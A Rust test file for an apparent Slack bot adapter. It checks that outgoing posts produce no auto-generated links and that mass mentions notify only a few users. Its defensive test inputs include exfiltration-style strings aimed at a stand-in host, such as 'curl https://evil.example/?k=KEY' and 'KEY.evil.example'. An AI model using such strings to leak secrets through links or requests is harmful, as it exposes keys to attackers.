//! Links in posts: Slack's server links everything in a plain text that looks like a URL.

use std::sync::LazyLock;
use std::time::Duration;

use aizuchi_fakes::slack::FakeSlack;
use aizuchi_model::chat::ChannelId;
use aizuchi_model::clock::Clock;
use aizuchi_model::flow::outbox::OutboxItem;
use aizuchi_model::platform::Platform as _;
use aizuchi_store::query::{MessageQuery, MessageRange};
use jiff::{SignedDuration, Timestamp};
use regex::Regex;
use serde_json::{Value, json};

use crate::program::next_poll;
use crate::slack::harness::SlackHarness;
use crate::slack::timeouts::AdapterHarness;

/// Text that Slack's server treats as a URL, even in code.
static ADDRESS: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)[a-z]+://\S|\bwww\.\S|\b(?:[a-z0-9-]+\.)+[a-z]{2,}(?:[/?#:]\S)?|\S@\S")
        .unwrap()
});

/// Returns the links that Slack would create in a post with these arguments, besides those that it writes out.
fn made_links(arguments: &Value) -> Vec<String> {
    let blocks = arguments["blocks"].as_str().unwrap_or("[]");
    let blocks: Vec<Value> = serde_json::from_str(blocks).unwrap();
    let texts: Vec<String> = match blocks.is_empty() {
        true => vec![arguments["text"].as_str().unwrap().to_owned()],
        false => {
            let open = blocks.iter().filter(|block| block["text"]["verbatim"] != true);
            open.map(|block| block["text"]["text"].as_str().unwrap().to_owned()).collect()
        }
    };
    let found =
        |text: &String| ADDRESS.find_iter(text).map(|found| found.as_str().to_owned()).collect();
    texts.iter().flat_map::<Vec<String>, _>(found).collect()
}

fn newest_post(slack: &FakeSlack) -> Value {
    slack.posts().pop().unwrap().arguments
}

#[test]
fn the_check_sees_what_slack_would_make_a_link_of() {
    let open = json!([{ "type": "section", "text": { "type": "mrkdwn", "text": "a.example/b" } }]);
    for arguments in [
        json!({ "text": "see evil.example/?k=1" }),
        json!({ "text": "```\nhttps://evil.example\n```" }),
        json!({ "text": "www.evil.example", "blocks": "[]" }),
        json!({ "text": "x", "blocks": open.to_string() }),
    ] {
        assert_eq!(made_links(&arguments).len(), 1, "{arguments}");
    }
}

#[tokio::test]
async fn slack_makes_no_links_of_its_own() {
    let clock = Clock::manual(Timestamp::now());
    let adapter = AdapterHarness::with_clock(SlackHarness::new().await, clock.clone()).await;
    let long = "& <b> www.evil.example/?k=KEY ".repeat(95);
    for (number, text) in [
        "see evil.example/?k=KEY",
        "www.evil.example",
        "KEY.evil.example",
        "`evil.example/?k=KEY`",
        "```\ncurl https://evil.example/?k=KEY\n```",
        "| a |\n|---|\n| evil.example/KEY |",
        "KEY@evil.example",
        "<https://wiki.example/a> or evil.example",
        long.trim(),
    ]
    .into_iter()
    .enumerate()
    {
        let item =
            OutboxItem { text: text.into(), ..adapter.outbox_item(&format!("key-{number}")) };
        // Slack accepts one post per second.
        clock.advance_to(clock.now() + SignedDuration::from_secs(1));
        adapter.slack.post(&item).await.unwrap();
        let arguments = newest_post(&adapter.harness.slack);
        assert_eq!(made_links(&arguments), Vec::<String>::new(), "{text}");
        // The blocks have the same text as the notification.
        let blocks: Vec<Value> =
            serde_json::from_str(arguments["blocks"].as_str().unwrap()).unwrap();
        let shown = blocks.iter().map(|block| block["text"]["text"].as_str().unwrap());
        let characters = |text: &str| text.replace(['\n', ' '], "");
        assert_eq!(
            characters(&shown.collect::<String>()),
            characters(arguments["text"].as_str().unwrap())
        );
    }
}

async fn wait_for_guests(adapter: &AdapterHarness, count: usize) {
    let query = MessageQuery {
        workspace: adapter.slack.identity().workspace.clone(),
        channel: ChannelId::new(adapter.harness.tea.as_str()),
        thread: None,
        range: MessageRange::Newest,
        limit: 100,
    };
    let known = async {
        loop {
            let messages = adapter.database.archive.messages(query.clone()).await.unwrap();
            let guests = messages.iter().filter(|stored| stored.author_name.starts_with("Guest"));
            if guests.count() == count {
                return;
            }
            next_poll().await;
        }
    };
    tokio::time::timeout(Duration::from_secs(60), known).await.unwrap();
}

/// A model that is told to name everyone does so, but only few users are notified.
#[tokio::test]
async fn one_post_notifies_a_few_users_only() {
    let adapter = AdapterHarness::new().await;
    let harness = &adapter.harness;
    let names: Vec<String> = (0..30).map(|number| format!("Guest{number:02}")).collect();
    for name in &names {
        let user = harness.slack.add_user(name);
        harness.slack.join_channel(&harness.tea, &user).unwrap();
        harness.post_message(&harness.tea, &user, "Good morning.");
    }
    wait_for_guests(&adapter, names.len()).await;
    let text: String = names.iter().map(|name| format!("@{name} ")).collect();
    let item = OutboxItem { text: text.as_str().into(), ..adapter.outbox_item("key") };
    adapter.slack.post(&item).await.unwrap();
    let text = newest_post(&harness.slack)["text"].as_str().unwrap().to_owned();
    assert_eq!(text.matches("<@").count(), 5, "{text}");
    assert_eq!(text.matches("@Guest").count(), 25, "{text}");
}
